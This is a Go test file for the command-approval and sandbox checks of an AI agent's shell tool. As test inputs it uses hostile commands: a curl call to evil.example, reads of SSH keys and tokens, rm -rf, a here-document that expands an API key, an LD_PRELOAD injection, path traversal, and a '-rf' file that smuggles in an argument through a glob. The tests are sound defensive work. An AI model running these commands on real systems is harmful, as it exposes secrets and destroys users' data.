@@ -1,0 +1,252 @@
+package shell
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"hob/platform/command"
+	"hob/platform/protect"
+	"hob/platform/provenance"
+	"hob/tools"
+)
+
+func TestMain(m *testing.M) {
+	if len(os.Args) == 2 && os.Args[1] == command.Helper {
+		os.Exit(command.Serve(os.Stdin, os.Stdout, os.Stderr))
+	}
+	os.Exit(m.Run())
+}
+
+type bench struct {
+	t          *testing.T
+	home, docs string
+	tool       tools.Tool
+}
+
+func newBench(t *testing.T, sandbox string) *bench {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("commands of Windows are not parsed")
+	}
+	home, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := &bench{t: t, home: home, docs: filepath.Join(home, "Documents")}
+	b.put("Documents/notes.txt", "one\n")
+	b.put(".ssh/id_ed25519", "canary")
+	b.put("hob/token", "canary")
+	judge, err := command.New(command.Options{
+		Home: home, Allowed: []string{b.docs},
+		Places: protect.New(protect.Options{Home: home, Own: []string{filepath.Join(home, "hob")}, Allowed: []string{b.docs}}),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	runner, err := command.NewRunner(command.RunOptions{Judge: judge, Sandbox: sandbox, Helper: []string{exe, command.Helper}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b.tool = Tools(Deps{Judge: judge, Runner: runner})[0]
+	return b
+}
+
+func (b *bench) put(name, text string) {
+	b.t.Helper()
+	path := filepath.Join(b.home, name)
+	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o755)); err != nil {
+		b.t.Fatal(err)
+	}
+}
+
+func (b *bench) get(name string) string {
+	text, err := os.ReadFile(filepath.Join(b.home, name))
+	if err != nil {
+		return ""
+	}
+	return string(text)
+}
+
+func args(in runIn) json.RawMessage {
+	raw, _ := json.Marshal(in) // strings and numbers always encode
+	return raw
+}
+
+func (b *bench) judge(in runIn) tools.Judgement {
+	return b.tool.(tools.Judge).Judge(b.t.Context(), args(in))
+}
+
+// allowed runs a call as it was judged before: with that judgement's Exact.
+func (b *bench) allowed(in runIn, exact string) (tools.Result, error) {
+	return b.tool.Call(b.t.Context(), tools.Call{ID: "c", Args: args(in), Exact: exact})
+}
+
+func (b *bench) run(in runIn) (tools.Result, error) { return b.allowed(in, b.judge(in).Exact) }
+
+func TestJudgement(t *testing.T) {
+	b := newBench(t, command.Off)
+	for name, c := range map[string]struct {
+		in      runIn
+		effects tools.Effects
+		listed  bool
+		why     string
+	}{
+		"looks only":       {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
+		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "nothing confines it"},
+		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
+		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "asks for the network"},
+		"sends":            {runIn{Command: "mail a@b.example"}, tools.Exec | tools.Send, false, "sends"},
+		"destroys":         {runIn{Command: "rm -rf x"}, tools.Exec | tools.Destroy, false, "cannot be undone"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			j := b.judge(c.in)
+			if j.Refused != nil || j.Effects != c.effects || j.Listed != c.listed || !strings.Contains(j.Why, c.why) || j.Exact == "" {
+				t.Errorf("%+v", j)
+			}
+		})
+	}
+	for name, c := range map[string]struct {
+		in   runIn
+		code tools.Code
+	}{
+		"protected":     {runIn{Command: "cat ~/.ssh/id_ed25519"}, tools.PolicyDenied},
+		"Hob's token":   {runIn{Command: "cat " + b.home + "/hob/token"}, tools.PolicyDenied},
+		"outside":       {runIn{Command: "ls", Cwd: "/etc"}, tools.PolicyDenied},
+		"no command":    {runIn{Command: "ls ("}, tools.InvalidArguments},
+		"hidden signs":  {runIn{Command: "ls\u202e"}, tools.InvalidArguments},
+		"too long":      {runIn{Command: strings.Repeat("a", 1001)}, tools.InvalidArguments},
+		"timeout":       {runIn{Command: "ls", Timeout: 1e6}, tools.InvalidArguments},
+		"below nothing": {runIn{Command: "ls", Timeout: -1}, tools.InvalidArguments},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if j := b.judge(c.in); tools.CodeOf(j.Refused) != c.code {
+				t.Errorf("%v", j.Refused)
+			}
+			if _, err := b.run(c.in); tools.CodeOf(err) != c.code {
+				t.Errorf("it ran: %v", err)
+			}
+		})
+	}
+}
+
+func TestResults(t *testing.T) {
+	b := newBench(t, command.Off)
+	for name, c := range map[string]struct {
+		in     runIn
+		want   string
+		source provenance.Source
+	}{
+		"files are outside text": {runIn{Command: "cat notes.txt"}, "one", provenance.Outside},
+		"its own words":          {runIn{Command: "echo hello"}, "hello", provenance.Tool},
+		"nothing":                {runIn{Command: "true"}, "It printed nothing.", provenance.Tool},
+		"status":                 {runIn{Command: "ls nothing"}, "exit status", provenance.Outside},
+		"another folder":         {runIn{Command: "pwd", Cwd: "~/Documents"}, b.docs, provenance.Outside},
+		"no sandbox is said":     {runIn{Command: "touch x"}, "No sandbox confined it", provenance.Outside},
+		"too long":               {runIn{Command: "sleep 60", Timeout: 1}, "took longer than 1s and was ended", provenance.Tool},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r, err := b.run(c.in)
+			if err != nil || !strings.Contains(r.Text, c.want) || r.Source != c.source {
+				t.Errorf("%s, %v (%s)", r.Text, err, r.Source)
+			}
+		})
+	}
+	ctx, cancel := context.WithCancel(t.Context())
+	cancel()
+	in := runIn{Command: "sleep 60"}
+	if _, err := b.tool.Call(ctx, tools.Call{Args: args(in), Exact: b.judge(in).Exact}); !errors.Is(err, context.Canceled) {
+		t.Errorf("a stopped one: %v", err)
+	}
+}
+
+func TestSummary(t *testing.T) {
+	b := newBench(t, command.Off)
+	got := b.tool.(tools.Summarizer).Summary(args(runIn{Command: `rm "a b" *.txt`}))
+	if !strings.HasPrefix(got, "Run in "+b.docs+": /") || !strings.HasSuffix(got, "/rm 'a b' notes.txt") {
+		t.Errorf("%s", got)
+	}
+}
+
+// I8 (CVE-2026-29607): an approval of a wrapper stayed while what it wrapped
+// was changed. Here an approval is for the resolved arguments and the digests of
+// what runs; CVE-2026-28463: the shell expanded what had been allowed unexpanded;
+// CVE-2026-44115: the bodies of here-documents expanded secrets.
+func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
+	b := newBench(t, command.Auto)
+	b.put("Documents/job.sh", "echo harmless\n")
+	for _, in := range []runIn{{Command: "sh job.sh"}, {Command: "env sh job.sh"}, {Command: "./job.sh"}, {Command: "for i in 1; do sh ./job.sh; done"}} {
+		b.put("Documents/job.sh", "echo harmless\n")
+		j := b.judge(in)
+		if j.Listed || j.Pattern != "" {
+			t.Errorf("%s: listed %v, pattern %q: a wrapper cannot be granted", in.Command, j.Listed, j.Pattern)
+		}
+		b.put("Documents/job.sh", "echo evil > made\n")
+		if _, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.Conflict || b.get("Documents/made") != "" {
+			t.Errorf("%s ran after its payload was changed: %v", in.Command, err)
+		}
+	}
+	in := runIn{Command: "rm *.tmp"}
+	b.put("Documents/a.tmp", "")
+	j := b.judge(in)
+	b.put("Documents/-rf", "")
+	b.put("Documents/b.tmp", "")
+	if _, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.Conflict {
+		t.Errorf("a pattern that stands for other files by now: %v", err)
+	}
+	for _, text := range []string{"cat *", "ls -- $(id)", "cat <<E\n$ANTHROPIC_API_KEY\nE"} {
+		if b.judge(runIn{Command: text}).Listed {
+			t.Errorf("%q is listed before it is expanded", text)
+		}
+	}
+	t.Setenv("ANTHROPIC_API_KEY", "canary")
+	r, err := b.run(runIn{Command: "cat <<E\n[$ANTHROPIC_API_KEY]\nE"})
+	if err != nil || !strings.Contains(r.Text, "[]") {
+		t.Errorf("a here-document shows %q, %v", r.Text, err)
+	}
+}
+
+// I9: between the check and the use a file was swapped for a link. What a
+// command would read is looked at again right before it runs.
+func TestIncidentI9SwappedFiles(t *testing.T) {
+	b := newBench(t, command.Auto)
+	in := runIn{Command: "cat notes.txt"}
+	j := b.judge(in)
+	if !j.Listed {
+		t.Fatalf("%+v", j)
+	}
+	if err := errors.Join(os.Remove(b.docs+"/notes.txt"), os.Symlink("../.ssh/id_ed25519", b.docs+"/notes.txt")); err != nil {
+		t.Skip(err)
+	}
+	if r, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.PolicyDenied || strings.Contains(r.Text, "canary") {
+		t.Errorf("%s, %v", r.Text, err)
+	}
+}
+
+// I10: an alias of a parameter went around the check. There is one name for
+// each, and what is not one is refused; names for folders lead to one place.
+func TestIncidentI10Aliases(t *testing.T) {
+	b := newBench(t, command.Auto)
+	for _, raw := range []string{`{"cmd":"ls"}`, `{"command":"ls","dir":"/etc"}`, `{"command":"ls","workdir":"/etc"}`, `{"command":"ls","Cwd":"/etc"}`, `{"command":"ls","env":{"LD_PRELOAD":"x"}}`, `{"command":["ls"]}`} {
+		if j := b.tool.(tools.Judge).Judge(t.Context(), json.RawMessage(raw)); j.Refused == nil {
+			t.Errorf("%s is judged: %+v", raw, j)
+		}
+		if _, err := b.tool.Call(t.Context(), tools.Call{Args: json.RawMessage(raw)}); tools.CodeOf(err) != tools.InvalidArguments && tools.CodeOf(err) != tools.PolicyDenied {
+			t.Errorf("%s ran: %v", raw, err)
+		}
+	}
+	for _, cwd := range []string{"/etc", "//etc", "~/../../etc", "../", "~/.ssh", "/proc/self/root/etc", b.docs + "/../.ssh", b.home + "/Documents/../hob"} {
+		if j := b.judge(runIn{Command: "ls", Cwd: cwd}); j.Refused == nil {
+			t.Errorf("it would run in %s", cwd)
+		}
+	}
+}
